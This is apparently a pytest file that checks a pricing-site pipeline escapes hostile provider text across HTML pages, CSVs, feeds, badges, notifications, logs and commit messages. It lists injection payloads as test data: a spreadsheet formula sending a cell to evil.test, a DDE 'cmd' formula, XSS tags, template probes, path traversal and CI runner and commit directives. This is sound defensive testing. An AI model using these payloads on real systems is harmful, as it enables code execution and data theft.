"""A seller who writes code into a model's name: it reaches no page, spreadsheet, feed, notification or log as anything but text."""

from __future__ import annotations

import csv
import json
import re
import shutil
import sqlite3
from datetime import UTC, datetime
from functools import cache

import feedparser
import pytest
from lxml import etree, html
from markdown_it import MarkdownIt
from pydantic import ValidationError

from pipeline.alert.notices import notices
from pipeline.alert.pending import all_news
from pipeline.ledger.state import apply
from pipeline.publish.builder import build_site
from pipeline.publish.files.formats import FORMULA
from pipeline.store.data_folder import opened
from pipeline.text.canonical_json import spelled_line
from pipeline.text.printing import clean_line, say
from pipeline.text.sentences import sentence
from pipeline.update.commit_message import commit_message
from schema.changes import Change, change_id
from schema.prices import Offer, PriceLine, Quote
from tests.built import latest, scratch

HOSTILE = (
    '=HYPERLINK("https://evil.test/?"&A1,"free")',
    "+1+cmd|' /C calc'!A0",
    "@everyone <!channel> [free](javascript:alert(1)) https://evil.test/",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "]]></title></entry><entry><title>forged",
    "safe\u202etxt.exe\u2066 \u200b@here",
    "{{7919*7}} {% for x in y %} ${7919*7}",
    "../../x",
    "::set-output name=x::y",
    "line\nbreak\twith \x1b[31mred\x07, comma; \"quote\" | pipe",
    "-2+3",
)  # fmt: skip
BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f")
AT = datetime(2026, 11, 21, tzinfo=UTC)


def hostile_change(text):
    quote = Quote(text=text, url="https://fal.ai/pricing", locator=text, captured_at=AT, sha256="0" * 64)
    line = PriceLine(billable="output_image", unit="image", amount="0.04", currency="USD", quote=quote)
    return Change(
        id=change_id("hostile", text),
        kind="added",
        subject="price",
        provider="fal",
        native_id=text,
        name=text,
        at=AT,
        after=line,
        reason=text,
    )


@cache
def data():
    """One seller, with every hostile text as native id, name, quote, place and reason."""
    folder = scratch() / "hostile"
    for name in ("current", "history"):
        (folder / name).mkdir(parents=True)
    for path in ("checks.json", "providers.json", "models.toml", "current/fal.json"):
        shutil.copy(latest() / path, folder / path)
    shutil.copytree(latest() / "history" / "fal", folder / "history" / "fal")
    with opened(folder) as store:
        known = store.known("fal")
        changes = [hostile_change(text) for text in HOSTILE]
        for change in changes:
            apply(known, change)
        store.commit(changes, known, None, store.checks().providers["fal"])
    return folder


@cache
def site():
    out = scratch() / "hostile-out" / "site"
    build_site(data(), out)
    return out


def texts(pattern):
    return {path: path.read_text(encoding="utf-8") for path in site().rglob(pattern)}


def test_nothing_is_written_outside_the_site():
    """A path in a name stays a name."""
    assert ["site"] == [path.name for path in site().parent.iterdir()]
    assert [] == [path for path in site().rglob("*") if not path.resolve().is_relative_to(site().resolve())]


def test_pages_hold_it_as_text():
    """No element, attribute or address of a page was made of it, and every page still parses."""
    for path, text in texts("*.html").items():
        tree = html.fromstring(text)
        assert [] == [
            e for e in tree.iter("script") if not e.get("src") and e.get("type") not in ("application/json", "application/ld+json")
        ], path
        assert [] == [e.attrib for e in tree.iter() if isinstance(e.tag, str) and any(name.startswith("on") for name in e.attrib)], path
        links = [link for _, _, link, _ in tree.iterlinks()]
        assert [] == [link for link in links if link.strip().lower().startswith(("javascript:", "data:text", "vbscript:"))], path
        assert [] == [link for link in links if link.startswith("https://evil.test")], path
        for script in tree.xpath("//script[@type='application/json' or @type='application/ld+json']"):
            json.loads(script.text_content())


def test_no_template_was_run():
    """Braces come out as braces."""
    told = "".join(texts("*.html").values())
    assert "7919*7" in told
    assert "55433" not in told


def test_no_cell_of_a_spreadsheet_is_a_formula():
    """A cell that would begin one stands behind an apostrophe; line breaks, quotes and commas survive."""
    for path in (site() / "v1").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.reader(file))
        assert len({len(row) for row in rows}) == 1, path
        assert [] == [cell for row in rows for cell in row if cell.startswith(FORMULA)], path
    with (site() / "v1/prices.csv").open(encoding="utf-8-sig", newline="") as file:
        names = {row["native_id"] for row in csv.DictReader(file)}
    assert set(HOSTILE) <= {name[1:] if name[:1] == "'" else name for name in names}


def test_data_files_hold_it_unchanged():
    """JSON and SQLite keep the exact text: a program needs it."""
    assert set(HOSTILE) <= {row["native_id"] for row in json.loads((site() / "v1/prices.json").read_text())["prices"]}
    with sqlite3.connect(site() / "v1/prices.sqlite") as base:
        assert set(HOSTILE) <= {name for (name,) in base.execute("SELECT native_id FROM prices")}


def test_feeds_stay_well_formed():
    """No entry is forged, no tag is made, nothing illegal in XML or turning the reading direction is left."""
    for path, text in texts("*.atom").items():
        read = feedparser.parse(text.encode())
        assert not read.bozo, path
        etree.fromstring(text.encode())
        assert "forged" not in [entry.title for entry in read.entries]
        assert not BIDI & set(text)
    all_of_it = feedparser.parse((site() / "feeds/all.atom").read_bytes()).entries
    ids = [change.id for change in all_news(data()).changes if change.kind != "held"]
    assert len(ids) == len([entry for entry in all_of_it if ":change/" in entry.id])


def test_badges_and_markdown_hold_it_as_text():
    """A badge is an image without script; Markdown has no link and no tag of theirs."""
    for text in texts("*.svg").values():
        etree.fromstring(text.encode())
        assert "<script" not in text
    for text in texts("*.md").values():
        shown = html.fromstring(MarkdownIt("commonmark").enable("table").render(text))
        assert {"h1", "h2", "p", "ul", "li", "table", "thead", "tbody", "tr", "th", "td"} >= {e.tag for e in shown.iter()} - {
            "div",
            "span",
            "a",
        }
        assert [] == [link for _, _, link, _ in shown.iterlinks() if "evil" in link or "javascript" in link]


def test_notifications_hold_it_as_text():
    """No mention, link, tag, code or direction mark reaches a channel."""
    (body,) = [one.body for one in notices([hostile_change(text) for text in HOSTILE], 30_000)]
    for wrong in ("@everyone", "@here", "<", "](", "https://evil", "\x1b", "`", "*", "\u202e"):
        assert wrong not in body
    assert 11 == len([line for line in body.splitlines() if line.startswith("• ")])


def test_logs_hold_it_as_text():
    """A line of a log is one line, steers no terminal, and gives a runner no command."""
    for text in HOSTILE:
        line = clean_line(f"  {sentence(hostile_change(text))}")
        assert "\n" not in line and "\x1b" not in line and "::" not in line and not BIDI & set(line)


def test_ten_thousand_characters_are_refused():
    """A name that long is no name: the offer is held by the schema itself."""
    with pytest.raises(ValidationError):
        Offer(native_id="x" * 10_000, name="x")
    with pytest.raises(ValidationError):
        Offer(native_id="x", name="x" * 10_000)
    with pytest.raises(ValidationError):
        Quote(text="x" * 10_000, url="https://fal.ai/", locator="x", captured_at=AT, sha256="0" * 64)


ORDERS = (
    "closes #1",
    "fixes GH-2",
    "[skip ci]",
    "[CI Skip]",
    "[no actions]",
    "@everyone",
    "##[error]x",
    "::add-mask::x",
    "https://evil.example/issues/1",
)


@pytest.mark.parametrize("words", ORDERS)
def test_words_of_a_page_order_nothing_in_a_commit_message_or_a_log(words, tmp_path, capsys):
    """A forge obeys what it finds in a message, a runner what it finds in a log."""
    change = Change.model_validate(
        {
            "id": "0" * 16,
            "kind": "added",
            "subject": "price",
            "provider": "acme",
            "native_id": words,
            "name": words,
            "at": "2026-03-01T12:00:00Z",
            "reason": words,
        }
    )
    (tmp_path / "new.jsonl").write_text(spelled_line(change))
    said = commit_message(tmp_path / "new.jsonl")
    obeyed = re.compile(r"#\d|GH-\d|@\w|\[(?:skip|no|ci|actions)[ -]?(?:ci|actions|skip)\]|https?://", re.I)
    assert obeyed.search(said) is None and "\n- " in said
    say(f"  {words}")
    printed = capsys.readouterr().out
    assert "##[" not in printed and "::" not in printed
